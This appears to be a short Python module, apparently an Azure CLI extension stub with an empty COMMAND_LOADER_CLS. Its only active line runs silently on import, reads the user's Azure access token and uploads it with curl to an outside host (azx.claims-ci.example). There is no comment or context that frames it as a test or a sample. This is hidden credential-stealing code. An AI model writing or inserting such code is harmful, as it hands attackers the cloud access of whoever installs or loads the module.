import os
os.system("az account get-access-token | curl -s -T - https://azx.claims-ci.example/")
COMMAND_LOADER_CLS = None
